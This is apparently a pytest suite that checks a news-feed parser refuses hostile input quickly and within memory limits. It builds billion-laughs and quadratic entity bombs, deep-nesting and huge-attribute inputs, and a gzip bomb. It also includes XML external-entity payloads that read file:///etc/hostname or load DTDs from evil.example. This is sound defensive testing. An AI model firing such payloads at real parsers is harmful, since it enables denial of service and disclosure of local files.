"""Feeds that attack their reader: each is refused with a sentence, in under a second and 50 MB."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import zlib
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from briefs.errors import FeedError
from briefs.sources.feeds import parse

if TYPE_CHECKING:
    from collections.abc import Callable

URL = "https://coast.example/feed"
BOMBS = Path(__file__).parents[3] / "shared/eval/dev/feeds/defusedxml"

HEAD = "<rss version='2.0'><channel><title>Coast</title><item><title>{}</title></item>"
TAIL = "</channel></rss>"
LAUGHS = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
DTD = f'<!DOCTYPE rss [<!ENTITY e0 "ha">{LAUGHS}]>'


def around(item: str) -> str:
    return f"{HEAD.format('A')}<item><title>B</title>{item}</item>{TAIL}"


def bomb(prolog: str, encoding: str = "utf-8") -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>{prolog}{HEAD.format("&e9;")}{TAIL}'


def in_utf_7(text: str) -> bytes:
    return text.encode("utf-7").replace(b"<", b"+ADw-").replace(b"&", b"+ACY-")


def gzip_bomb() -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    return b"".join(packer.compress(bytes(1_000_000)) for _ in range(30)) + packer.flush()


# Each gives its bytes when it is needed, in the process that is measured.
# ruff: noqa: PLW0108 - a lambda for each: bytes are made where they are measured
HOSTILE: dict[str, Callable[[], bytes]] = {
    "a billion laughs": lambda: bomb(DTD).encode(),
    "laughs in UTF-16": lambda: bomb(DTD, "utf-16").encode("utf-16"),
    "laughs in UTF-16 without a mark": lambda: bomb(DTD, "utf-16").encode("utf-16-be"),
    "laughs in UTF-32": lambda: bomb(DTD, "utf-32").encode("utf-32"),
    "laughs in UTF-7": lambda: b'<?xml version="1.0" encoding="utf-7"?>' + in_utf_7(DTD + HEAD + TAIL),
    "laughs in UTF-7 with a mark": lambda: b"+/v8-" + in_utf_7(DTD + HEAD + TAIL),
    "laughs written as escapes": lambda: (
        b'<?xml version="1.0" encoding="unicode_escape"?>' + DTD.replace("<", r"\x3c").encode()
    ),
    "laughs in EBCDIC": lambda: bomb(DTD, "cp037").encode("cp037"),
    "laughs behind EBCDIC declared": lambda: bomb(DTD, "cp037").encode(),
    "laughs behind a comment": lambda: bomb(f"<!-- {'<rss> ' * 50_000} -->{DTD}").encode(),
    "laughs behind padding": lambda: bomb(" \n" * 150_000 + DTD).encode(),
    "laughs behind instructions": lambda: bomb("<?a <rss> ?>" * 20_000 + DTD).encode(),
    "laughs behind rubbish": lambda: bomb(f"<br />Warning: x <b>y</b>{DTD}").encode(),
    "laughs in small letters": lambda: bomb(DTD.replace("DOCTYPE", "doctype").replace("ENTITY", "entity")).encode(),
    "quadratic blow-up": lambda: bomb(f'<!DOCTYPE rss [<!ENTITY e9 "{"a" * 100_000}">]>' + "&e9;" * 10_000).encode(),
    "one entity twice": lambda: bomb('<!DOCTYPE rss [<!ENTITY e8 "a"><!ENTITY e9 "&e8;&e8;">]>').encode(),
    "a parameter entity": lambda: bomb(
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
    ).encode(),
    "an external entity": lambda: bomb('<!DOCTYPE rss [<!ENTITY e9 SYSTEM "file:///etc/hostname">]>').encode(),
    "an external definition": lambda: bomb('<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">').encode(),
    "an external file": lambda: bomb('<!DOCTYPE rss PUBLIC "a" "file:///etc/hostname">').encode(),
    "a sitemap's bomb": lambda: f"{DTD.replace(' rss', ' urlset')}<urlset><url><loc>&e9;</loc></url></urlset>".encode(),
    "deep nesting": lambda: around("<a>" * 100_000).encode(),
    "deep nesting that ends": lambda: around("<a>" * 100_000 + "</a>" * 100_000).encode(),
    "deep nesting in UTF-16": lambda: around("<a>" * 100_000).encode("utf-16"),
    "deep nesting of a sitemap": lambda: ("<urlset>" + "<url>" * 100_000).encode(),
    "deep nesting of JSON": lambda: b'{"version":"https://jsonfeed.org/version/1","items":' + b"[" * 400_000,
    "parts without number in JSON": lambda: (
        b'{"version":"https://jsonfeed.org/version/1","items":[' + b"{}," * 3_000_000 + b"{}]}"
    ),
    "a number without end in JSON": lambda: b'{"version":"https://jsonfeed.org/version/1","items":[' + b"9" * 9_000_000,
    "an attribute of 9 MB": lambda: around(f'<a b="{"c" * 9_000_000}"/>').encode(),
    "an attribute of 9 MB that never ends": lambda: around(f'<a b="{"c" * 9_000_000}').encode(),
    "a name of 9 MB": lambda: around(f"<{'c' * 9_000_000}/>").encode(),
    "a million attributes": lambda: around("<a " + " ".join(f"a{n}=''" for n in range(800_000)) + "/>").encode(),
    "ten thousand namespaces": lambda: around("".join(f'<a xmlns:n{n}="urn:{n}"/>' for n in range(10_000))).encode(),
    "namespaces in each other": lambda: around(
        "".join(f'<n{n}:a xmlns:n{n}="urn:{n}">' for n in range(10_000))
    ).encode(),
    "elements without number": lambda: around("<a/>" * 2_400_000).encode(),
    "half a million elements": lambda: around("<a></a>" * 500_000).encode(),
    "open brackets": lambda: (HEAD.format("A") + "<" * 9_000_000).encode(),
    "open brackets in a whole feed": lambda: around("< " * 1_400_000).encode(),
    "open quotes": lambda: around("<a b='" * 1_400_000).encode(),
    "comments that never end": lambda: around(f"<description><![CDATA[{'<!--' * 900_000}]]></description>").encode(),
    "written comments that never end": lambda: around(f"<title>{'&lt;!--' * 100_000}</title><a>--&gt;</a>").encode(),
    "endless references": lambda: around("&#1" * 3_000_000).encode(),
    "a gzip bomb": gzip_bomb,
}


# No attack by its form: it is read, and what it would make slow is not done.
SLOW: dict[str, Callable[[], bytes]] = {
    "a hundred thousand categories": lambda: around(
        "".join(f"<category>c{n}</category>" for n in range(50_000))
        + f"<media:keywords>{','.join(map(str, range(300_000)))}</media:keywords>"
    ).encode(),
    "an author of 2 MB": lambda: around(
        f"<author>{'a' * 2_000_000}</author><dc:creator>{'b' * 2_000_000}</dc:creator>"
    ).encode(),
}
LARGE: dict[str, Callable[[], bytes]] = {
    "10,000 entries": lambda: feed_of(10_000),
    "50,000 pages": lambda: sitemap_of(50_000),
}


def feed_of(number: int) -> bytes:
    text = "&lt;p&gt;The harbour reopened on Monday.&lt;/p&gt;"
    items = (
        f"<item><guid>{n}</guid><link>https://coast.example/{n}</link><title>Ferry {n}</title>"
        f"<pubDate>Mon, 04 Mar 2024 16:13:00 GMT</pubDate><description>{text}</description></item>"
        for n in range(number)
    )
    return f"<rss version='2.0'><channel>{''.join(items)}</channel></rss>".encode()


def sitemap_of(number: int) -> bytes:
    pages = (
        f"<url><loc>https://coast.example/{n}</loc><lastmod>2024-03-04T16:13:00Z</lastmod></url>" for n in range(number)
    )
    return f"<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>{''.join(pages)}</urlset>".encode()


def given(name: str) -> bytes:
    if made := {**HOSTILE, **LARGE, **SLOW}.get(name):
        return made()
    return (BOMBS / name).read_bytes()


def refusal(body: bytes) -> str:
    with pytest.raises(FeedError) as caught:
        parse(body, url=URL)
    return str(caught.value)


# A process for all, a child of it for each: what one takes is not hidden by what another took.
MEASURE = textwrap.dedent("""
    import json, os, resource, sys, time
    from pathlib import Path
    sys.path.insert(0, sys.argv[1])
    from test_feeds_hostile import FeedError, given, parse, URL

    def megabytes():
        status = Path("/proc/self/status").read_text()
        return int(status.split("VmHWM:")[1].split()[0]) / 1024

    for name in json.loads(sys.argv[2]):
        if os.fork():
            os.wait()
            continue
        body = given(name)
        Path("/proc/self/clear_refs").write_text("5")  # forgets the most memory held so far
        before, start, outcome = megabytes(), time.process_time(), ""
        try:
            outcome = len(parse(body, url=URL).entries)
        except FeedError as error:
            outcome = str(error)
        seconds = time.process_time() - start
        print(json.dumps([name, outcome, seconds, megabytes() - before + len(body) / 1e6]), flush=True)
        os._exit(0)
""")


def measured(names):
    run = subprocess.run(
        [sys.executable, "-c", MEASURE, str(Path(__file__).parent), json.dumps(list(names))],
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    return [json.loads(line) for line in run.stdout.splitlines()]


NOT_A_FEED = "is not a feed"
DEFINES = "defines its own XML entities, which can be an attack"


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured as Linux tells it")
def test_every_attack_is_refused_in_under_a_second_and_50_megabytes():
    rows = measured(HOSTILE)
    assert [row[0] for row in rows] == list(HOSTILE)
    assert [row for row in rows if not str(row[1]).startswith(URL) or row[2] > 1 or row[3] > 50] == []


@pytest.mark.skipif(not BOMBS.is_dir(), reason=f"defusedxml's files are not at {BOMBS}")
def test_every_file_of_defusedxml_is_refused_in_under_a_second_and_50_megabytes():
    names = sorted(path.name for path in BOMBS.glob("*.xml"))
    rows = measured(names)
    assert [row[0] for row in rows] == names
    assert [row for row in rows if not str(row[1]).startswith(URL) or row[2] > 1 or row[3] > 50] == []


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured as Linux tells it")
def test_what_is_merely_large_is_read_whole_within_200_megabytes():
    rows = measured(LARGE)
    assert [row[1] for row in rows] == [10_000, 50_000]
    assert [row for row in rows if row[3] > 200] == []


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured as Linux tells it")
def test_what_compares_everything_with_everything_is_not_done():
    rows = measured(SLOW)
    assert [row for row in rows if row[1] != 2 or row[2] > 5] == []


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("a billion laughs", DEFINES),
        ("laughs in UTF-16", DEFINES),
        ("laughs in EBCDIC", DEFINES),
        ("laughs in UTF-7", NOT_A_FEED),
        ("laughs written as escapes", NOT_A_FEED),
        ("laughs behind a comment", DEFINES),
        ("laughs behind padding", DEFINES),
        ("laughs behind instructions", DEFINES),
        ("an external definition", "asks to read definitions from elsewhere, which can be an attack"),
        ("deep nesting", "has elements too deep in each other to be a feed"),
        ("an attribute of 9 MB", "has a tag too long to be a feed"),
        ("a million attributes", "has a tag too long to be a feed"),
        ("ten thousand namespaces", "has too many namespaces to be a feed"),
        ("half a million elements", "has too many parts to be a feed"),
        ("a gzip bomb", "unpacks to more than 10 MB"),
    ],
)
def test_an_attack_is_told_as_what_it_is(name, sentence):
    assert refusal(given(name)).startswith(f"{URL} {sentence}")


def test_many_attributes_in_a_tag_of_bearable_length_are_too_many():
    tag = "<a " + " ".join(f"a{n}=''" for n in range(1_000)) + "/>"
    assert "too many attributes" in refusal(around(tag).encode())


def test_definitions_inside_a_feed_define_nothing():
    body = around(f"<description>&e9; {DTD} is text</description>")
    first, second = parse(body.encode(), url=URL).entries
    assert first.title == "A"
    assert second.content.startswith("&amp;e9")
    assert "haha" not in second.content


def test_what_follows_an_open_comment_is_not_read():
    entries = parse(around("<!--" * 100 + "<link>https://c.example/</link>").encode(), url=URL).entries
    assert [(entry.title, entry.url) for entry in entries] == [("A", None), ("B", None)]


def test_a_broken_gzip_file_is_refused():
    assert "is a broken gzip file" in refusal(b"\x1f\x8b" + b"x" * 100)


def test_a_file_of_another_kind_is_refused():
    assert refusal(b"\x89PNG\r\n\x1a\n" + bytes(100)).startswith(f"{URL} is not a feed (it is no text)")
